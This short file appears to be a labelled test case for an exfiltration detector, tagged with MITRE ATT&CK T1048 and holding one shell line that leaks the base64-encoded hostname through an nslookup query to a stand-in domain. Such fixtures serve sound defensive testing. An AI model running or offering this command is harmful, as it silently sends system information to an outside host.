# expect: data-out
# source: MITRE ATT&CK T1048 exfiltration over DNS
# technique: nslookup of a computed name leaks data in the query: DESIGN silent; treated like a computed GET
nslookup "$(hostname | base64).x.example.net"
